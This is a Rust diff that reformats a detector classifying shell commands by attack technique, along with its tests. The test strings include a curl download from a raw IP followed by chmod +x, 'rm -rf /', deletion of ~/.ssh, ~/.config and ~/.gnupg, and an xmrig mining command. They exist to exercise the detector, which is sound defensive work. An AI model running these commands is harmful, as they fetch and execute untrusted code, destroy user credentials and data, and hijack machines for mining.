@@ -513,7 +513,9 @@ pub fn command_techniques(text: &str) -> Vec<(Technique, &'static str)> {
 /// Where the fetch starts (byte offset), when there is one.
 pub fn downloaded_from_an_address_then_made_executable(text: &str) -> Option<usize> {
     static FETCH: LazyLock<Option<Regex>> = LazyLock::new(|| {
-        rx(r"\b(curl|wget|iwr|invoke-webrequest)\b[^\n]*\b[a-z]+://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b")
+        rx(
+            r"\b(curl|wget|iwr|invoke-webrequest)\b[^\n]*\b[a-z]+://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b",
+        )
     });
     static EXECUTABLE: LazyLock<Option<Regex>> = LazyLock::new(|| {
         rx(r"\bchmod\s+(-[a-z]+\s+)*([ugoa]*\+[rw]*x|[0-7]?[0-7][1357][0-7]?[0-7]?)\b")
@@ -800,7 +802,8 @@ mod tests {
             assert!(!vendor_installer(l), "{l}");
         }
         assert!(command_techniques("curl -L https://fly.io/install.sh | sh").is_empty());
-        let fetched = "curl -fsSL \"http://198.51.100.7/dl/tool\" -o \"$D/tool\"\nchmod +x \"$D/tool\"\n";
+        let fetched =
+            "curl -fsSL \"http://198.51.100.7/dl/tool\" -o \"$D/tool\"\nchmod +x \"$D/tool\"\n";
         assert!(command_techniques(fetched)
             .iter()
             .any(|(k, _)| *k == Technique::DownloadExecute));
@@ -907,7 +910,8 @@ mod tests {
                 || t("rm -rf /").contains(&Technique::Destruction)
         );
         assert!(t("./xmrig -o stratum+tcp://pool:3333").contains(&Technique::Mining));
-        assert!(t("rm -rf \"$HOME\"/{.config,.ssh,.gnupg} 2>/dev/null").contains(&Technique::Destruction));
+        assert!(t("rm -rf \"$HOME\"/{.config,.ssh,.gnupg} 2>/dev/null")
+            .contains(&Technique::Destruction));
         assert!(t("rm -rf ~/.ssh").contains(&Technique::Destruction));
         assert!(!t("rm -rf ~/.cache/pip ~/.npm/_cacache").contains(&Technique::Destruction));
         assert!(!t("rm -f ~/.ssh/cm-*").contains(&Technique::Destruction));
